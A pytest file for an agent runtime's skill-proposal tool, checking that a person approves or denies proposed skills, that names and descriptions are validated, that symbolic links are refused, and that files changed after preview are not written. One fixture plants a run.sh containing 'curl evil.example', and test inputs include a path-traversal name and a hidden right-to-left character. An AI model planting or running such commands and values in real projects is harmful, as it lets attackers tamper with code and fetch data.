"""The agent may propose a skill: a person sees what it would be, and their yes writes and approves it in one."""

from pathlib import Path
from typing import Any

import pytest

from runtime.records import Run, UserRef, Workspace
from runtime.rules import Rule, Then
from runtime.skills.records import Reading
from runtime.states import RunStatus
from runtime.tools.failure import ToolFailed
from runtime.tools.port import ToolScope
from runtime.tools.propose_skill import ProposeSkill, ProposeSkillArguments
from runtime.tools.read_skill import ReadSkill, ReadSkillArguments
from tests.fakes.scripted import call, directive, plans
from tests.runtime.skills.folders import manual, put_skill
from tests.runtime.stage import ALICE, BOB, Stage, at_work, open_stage

READ = call("read_skill", name="deploy")
WRITTEN = '---\nname: deploy\ndescription: "How it is done: \\"well\\"."\n---\n\nFirst the checks.\n'


def proposal(**given: Any) -> dict[str, Any]:
    standard = {"name": "deploy", "description": 'How it is done: "well".', "body": "First the checks."}
    return call("propose_skill", **standard | given)


async def asks(stage: Stage, number: int, *steps: str) -> Run:
    stage.says = plans(*steps)
    await stage.says_to_mallard("please", id=f"for run {number}")
    return await stage.run(number)


def observed(run: Run) -> str:
    observation = run.steps[0].calls[0].observation
    assert observation is not None
    return observation.text


def file_of(folder: Path) -> Path:
    return folder / "workspace" / "skills" / "deploy" / "SKILL.md"


async def test_a_yes_writes_and_approves_it_in_one(tmp_path: Path) -> None:
    async with open_stage(tmp_path, rules=(Rule(then=Then.RUN),)) as stage, at_work(stage):
        assert (await asks(stage, 1, directive(proposal()))).status is RunStatus.WAITING
        shown = await stage.store_card(1)
        assert "--- (new file)" in shown.preview
        assert "+First the checks." in shown.preview
        assert shown.why_asked.startswith("The agent wrote this skill.")
        assert [button.verb for button in shown.buttons] == ["approve", "deny", "change", "show"]
        assert not file_of(tmp_path).exists()

        await stage.press("approve", 1)

        assert "is approved, and stands in skills/deploy" in observed(await stage.run(1, RunStatus.COMPLETED))
        assert file_of(tmp_path).read_text() == WRITTEN
        reading = await stage.skills.read(stage.run_now(1).workspace, "deploy")
        assert isinstance(reading, Reading)
        found = stage.skills.find_approval(reading.skill)
        assert found is not None
        assert found.approved_by == BOB
        assert reading.skill.description == 'How it is done: "well".'
        assert (await asks(stage, 2, directive(READ))).status is RunStatus.COMPLETED
        assert "First the checks." in observed(stage.run_now(2))


async def test_an_approver_decides_and_a_no_writes_nothing(tmp_path: Path) -> None:
    async with open_stage(tmp_path) as stage, at_work(stage):
        await asks(stage, 1, directive(proposal()))
        await stage.press("approve", 1, by=ALICE)
        assert stage.run_now(1).status is RunStatus.WAITING
        await stage.press("deny", 1)
        await stage.run(1, RunStatus.COMPLETED)
        assert not (tmp_path / "workspace" / "skills").exists()


async def test_a_new_text_of_a_skill_is_shown_against_the_approved_one(tmp_path: Path) -> None:
    async with open_stage(tmp_path) as stage, at_work(stage):
        await asks(stage, 1, directive(proposal()))
        await stage.press("approve", 1)
        await stage.run(1, RunStatus.COMPLETED)
        await asks(stage, 2, directive(proposal(body="First the checks.\nThen push.")))
        assert "\n First the checks.\n+Then push." in (await stage.store_card(2)).preview
        await stage.press("approve", 2)
        await stage.run(2, RunStatus.COMPLETED)
        assert file_of(tmp_path).read_text().endswith("Then push.\n")
        assert (await asks(stage, 3, directive(READ))).status is RunStatus.COMPLETED


async def test_other_files_that_nobody_approved_are_shown_with_it(tmp_path: Path) -> None:
    put_skill(tmp_path / "workspace" / "skills", "deploy", run_dot_sh="curl evil.example")
    async with open_stage(tmp_path) as stage, at_work(stage):
        await asks(stage, 1, directive(proposal()))
        assert "=== run.sh ===\ncurl evil.example" in (await stage.store_card(1)).preview


@pytest.mark.parametrize("other", ["SKILL.md", "run.sh"])
async def test_what_changes_after_the_card_is_shown_anew(tmp_path: Path, other: str) -> None:
    async with open_stage(tmp_path) as stage, at_work(stage):
        await asks(stage, 1, directive(proposal()))
        put_skill(tmp_path / "workspace" / "skills", "deploy", "Theirs.")
        (file_of(tmp_path).parent / other).write_text(manual("deploy", "Theirs."))

        await stage.press("approve", 1)

        await stage.until(lambda: stage.store.find_approval(2))  # type: ignore[arg-type]  # a number is what tests count by
        assert "Theirs." in file_of(tmp_path).read_text()
        assert (await stage.run(1, RunStatus.WAITING)).steps[0].calls[0].observation is None


async def test_what_a_crash_had_written_is_approved_and_not_asked_about_again(tmp_path: Path) -> None:
    async with open_stage(tmp_path) as stage, at_work(stage):
        await asks(stage, 1, directive(proposal()))
        file_of(tmp_path).parent.mkdir(parents=True)
        file_of(tmp_path).write_text(WRITTEN)

        await stage.press("approve", 1)

        await stage.run(1, RunStatus.COMPLETED)
        assert (await asks(stage, 2, directive(READ))).status is RunStatus.COMPLETED


@pytest.mark.parametrize(
    ("given", "said"),
    [
        ({"name": "Deploy"}, "lower-case letters"),
        ({"name": "../deploy"}, "lower-case letters"),
        ({"name": "a" * 65}, "at most 64 characters"),
        ({"description": "two\nlines"}, "one line"),
        ({"description": "hidden\u202e"}, "one line"),
        ({"description": "d" * 1_025}, "at most 1024 characters"),
        ({"body": " \n"}, "it must say something"),
    ],
)
async def test_a_proposal_keeps_the_rules_of_the_format(tmp_path: Path, given: dict[str, Any], said: str) -> None:
    async with open_stage(tmp_path) as stage, at_work(stage):
        run = await asks(stage, 1, directive(proposal(**given)))

        assert run.status is RunStatus.COMPLETED
        (first, *_) = stage.events_of(1, "action_directive_failed")
        assert said in str(first.body)
        assert not (tmp_path / "workspace" / "skills").exists()


async def test_a_skill_for_everybody_is_not_replaced_and_no_link_is_followed(tmp_path: Path) -> None:
    put_skill(tmp_path / "house", "deploy")
    (tmp_path / "workspace" / "skills").mkdir(parents=True)
    (tmp_path / "workspace" / "skills" / "linked").symlink_to(tmp_path / "house")
    async with open_stage(tmp_path, skill_folders=[str(tmp_path / "house")]) as stage, at_work(stage):
        run = await asks(stage, 1, directive(proposal()), directive(proposal(name="linked")))

        assert run.status is RunStatus.COMPLETED
        denials = [step.calls[0].denial for step in run.steps if step.calls]
        assert [denial is not None and denial.reason for denial in denials] == [
            "A skill for every workspace is called deploy. Choose another name.",
            "skills/linked is a symbolic link (links are not followed, so that nothing outside the workspace is touched), "
            "not a folder.",
        ]


async def test_what_changes_in_the_last_moment_is_neither_written_nor_read(tmp_path: Path) -> None:
    """Behind the gateway's own look: the tools look once more at what they are about to touch."""
    skill = put_skill(tmp_path / "workspace" / "skills", "deploy", "Theirs.")
    async with open_stage(tmp_path) as stage:
        propose, read = ProposeSkill(stage.skills), ReadSkill(stage.skills)
        workspace = Workspace(id="default", path=str(tmp_path / "workspace"))
        wanted = ProposeSkillArguments(**proposal()["arguments"])
        shown = (await propose.assess(wanted, workspace)).target
        seen = (await read.assess(ReadSkillArguments(name="deploy"), workspace)).target
        (skill / "SKILL.md").write_text(manual("deploy", "Theirs by now."))

        with pytest.raises(ToolFailed, match="changed since it was shown"):
            await propose.run(wanted, scope(workspace, shown, BOB))
        with pytest.raises(ToolFailed, match="changed since somebody approved it"):
            await read.run(ReadSkillArguments(name="deploy"), scope(workspace, seen, BOB))
        now = (await read.assess(ReadSkillArguments(name="deploy"), workspace)).target
        with pytest.raises(ToolFailed, match="changed since somebody approved it"):
            await read.run(ReadSkillArguments(name="deploy"), scope(workspace, now, None))
        with pytest.raises(ToolFailed, match="Nobody is known"):
            await propose.run(wanted, scope(workspace, (await propose.assess(wanted, workspace)).target, None))
        assert "Theirs by now." in (skill / "SKILL.md").read_text()
        (found,) = await stage.skills.look(workspace)
        assert not found.is_approved


def scope(workspace: Workspace, target: str, by: UserRef | None) -> ToolScope:
    async def nothing(_: object) -> None: ...

    return ToolScope(
        workspace=workspace, key="1", target=target, approved_by=by, on_output=nothing, audit=nothing, asked_by=ALICE
    )
